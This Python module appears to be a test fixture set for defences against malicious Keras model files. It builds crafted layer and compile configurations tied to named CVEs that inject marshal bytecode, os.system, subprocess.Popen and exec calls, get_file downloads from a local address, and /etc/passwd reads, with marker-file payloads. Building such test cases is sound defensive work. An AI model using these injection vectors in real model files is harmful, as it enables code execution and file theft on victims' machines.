"""Files made to run code when a model is loaded or run.

Each takes the configuration of a harmless model, as a file holds it, and puts something
into one place of it: an object that Keras would make, from a module of the attacker's
choice, with arguments of his choice. What it names would write the file `PROOF`.
"""

from __future__ import annotations

import base64
import marshal
from typing import Any

PROOF = "proof-of-harm"


def function(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
    }


def thing(module: str | None, name: str, /, **config: Any) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": name,
        "config": config,
        "registered_name": None,
    }


def _harm(x: Any) -> Any:
    open("proof-of-harm", "w").close()  # noqa: PTH123 - as an attacker would
    return x


BYTECODE = {
    "class_name": "__lambda__",
    "config": {
        "value": [
            base64.b64encode(marshal.dumps(_harm.__code__)).decode(),
            None,
            None,
        ]
    },
}
PLOT = function("keras.visualization", "plot_image_gallery")
FETCH = {"origin": "http://127.0.0.1:9/x", "fname": PROOF}

LAYERS = {
    # CVE-2024-3660: Python bytecode.
    "bytecode": thing("keras.layers", "Lambda", name="odd", function=BYTECODE),
    "bytecode of Keras 2": thing(
        "keras.layers",
        "Lambda",
        name="odd",
        function=BYTECODE["config"]["value"],
        function_type="lambda",
        module="os",
    ),
    # CVE-2025-1550: any function of any module by its name.
    "os.system": thing(
        "keras.layers",
        "Lambda",
        name="odd",
        function=function("os", "system"),
        arguments={"command": f"touch {PROOF}"},
    ),
    "subprocess as a class": thing(
        "subprocess", "Popen", name="odd", args=["touch", PROOF]
    ),
    "builtins": thing("builtins", "exec", name="odd", source=f"open('{PROOF}', 'w')"),
    # CVE-2025-8747: a function of Keras' own that downloads or extracts.
    "get_file": thing(
        "keras.layers",
        "Lambda",
        name="odd",
        function=function("keras.utils", "get_file"),
        arguments=FETCH,
    ),
    "get_file as an operator": thing("keras.utils", "get_file", name="odd", **FETCH),
    # CVE-2025-9906: lifts the safe mode, for the Lambda behind it.
    "unsafe deserialization": thing(
        "keras.config", "enable_unsafe_deserialization", name="odd"
    ),
    "a picture": thing(
        "keras.layers",
        "Lambda",
        name="odd",
        function=PLOT,
        arguments={"path": PROOF, "rows": 1, "cols": 1, "value_range": [0, 1]},
    ),
    "save_img": thing(
        "keras.layers",
        "Lambda",
        name="odd",
        function=function("keras.utils", "save_img"),
        arguments={"path": PROOF},
    ),
    "load_model": thing(
        "keras.saving", "load_model", name="odd", filepath="x.keras", safe_mode=False
    ),
    "a module that is not imported": thing("antigravity", "Layer", name="odd"),
    "a module of Keras' tests": thing("keras.src.layers.layer_test", "X", name="odd"),
    # CVE-2025-12058 and -12060: a vocabulary, or weights, from elsewhere.
    "StringLookup": thing(
        "keras.layers", "StringLookup", name="odd", vocabulary="/etc/passwd"
    ),
    "a vocabulary from the net": thing(
        "keras.layers", "IntegerLookup", name="odd", vocabulary="http://127.0.0.1:9/x"
    ),
    "TextVectorization": thing(
        "keras.layers", "TextVectorization", name="odd", vocabulary="/etc/passwd"
    ),
    "TextVectorization's split": thing(
        "keras.layers",
        "TextVectorization",
        name="odd",
        standardize=function("os", "system"),
    ),
    "TFSMLayer": thing("keras.layers", "TFSMLayer", name="odd", filepath="elsewhere"),
    "TorchModuleWrapper": thing(
        "keras.layers",
        "TorchModuleWrapper",
        name="odd",
        module={"class_name": "TorchModule", "config": {"buffer_value": "gAAA"}},
    ),
    "JaxLayer": thing(
        "keras.layers", "JaxLayer", name="odd", call_fn=function("os", "system")
    ),
    "an activation": thing(
        "keras.layers", "Activation", name="odd", activation=function("os", "system")
    ),
    "an activation of bytecode": thing(
        "keras.layers", "Activation", name="odd", activation=BYTECODE
    ),
    "an initializer": thing(
        "keras.layers",
        "PReLU",
        name="odd",
        alpha_initializer=function("os", "system"),
    ),
    "an initializer as a class": thing(
        "keras.layers",
        "PReLU",
        name="odd",
        alpha_initializer=thing("subprocess", "Popen", args=["touch", PROOF]),
    ),
    "a regularizer": thing(
        "keras.layers",
        "ActivityRegularization",
        name="odd",
        activity_regularizer=function("keras.utils", "get_file"),
    ),
    "a constraint": thing(
        "keras.layers", "PReLU", name="odd", alpha_constraint=function("os", "system")
    ),
    "a dtype": thing(
        "keras.layers",
        "ReLU",
        name="odd",
        dtype=thing("subprocess", "Popen", args=["touch", PROOF]),
    ),
    "a cell": thing(
        "keras.layers", "RNN", name="odd", cell=thing("os", "system", command="id")
    ),
    "cells of a cell": thing(
        "keras.layers",
        "RNN",
        name="odd",
        cell=thing(
            "keras.layers",
            "StackedRNNCells",
            cells=[thing("keras.layers", "Lambda", function=PLOT)],
        ),
    ),
    "a wrapped layer": thing(
        "keras.layers",
        "TimeDistributed",
        name="odd",
        layer=thing("keras.layers", "Lambda", function=PLOT),
    ),
    "a backward layer": thing(
        "keras.layers",
        "Bidirectional",
        name="odd",
        layer=thing("keras.layers", "GRU", units=2),
        backward_layer=thing("os", "system", command="id"),
    ),
    "a layer of a pipeline": thing(
        "keras.layers",
        "Pipeline",
        name="odd",
        layers=[thing("keras.layers", "Lambda", function=PLOT)],
    ),
    "a random factor": thing(
        "keras.layers", "RandomRotation", name="odd", factor=function("os", "system")
    ),
    "a quantizer": thing(
        "keras.layers",
        "Identity",
        name="odd",
        quantization_config=thing("os", "system", command="id"),
    ),
    "a registered name": {
        **thing("keras.layers", "ReLU", name="odd"),
        "registered_name": "evil>Layer",
    },
    "a module behind a known class": thing("os", "ReLU", name="odd"),
    "a module below Keras": thing("keras.src.saving.saving_lib", "ReLU", name="odd"),
    "an operator that calls": thing(
        "keras.src.ops.core", "Map", name="odd", function=function("os", "system")
    ),
    "a typespec": {
        **thing("keras.layers", "ReLU", name="odd"),
        "build_config": {
            "class_name": "__typespec__",
            "spec_name": "system",
            "module": "os",
            "registered_name": None,
            "config": [],
        },
    },
    "a build configuration": {
        **thing("keras.layers", "ReLU", name="odd"),
        "build_config": {"input_shape": function("os", "system")},
    },
    "a nested compile configuration": {
        **thing("keras.layers", "ReLU", name="odd"),
        "compile_config": {"optimizer": "sgd", "loss": function("os", "system")},
    },
    "a nested model": {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {
            "name": "odd",
            "layers": [
                thing("keras.layers", "InputLayer", batch_shape=[None, 4], name="in"),
                thing("keras.layers", "Lambda", name="inner", function=PLOT),
            ],
        },
    },
}
"""What stands for the layer `odd` -> the entry in its place."""

COMPILED = {
    "metrics": {"metrics": [function("os", "system")]},
    "a loss": {"loss": thing("subprocess", "Popen", args=["touch", PROOF])},
    "an optimizer": {"optimizer": thing("os", "system", command="id")},
}
"""What is added to `compile_config` of the outermost model, which nobody loads."""
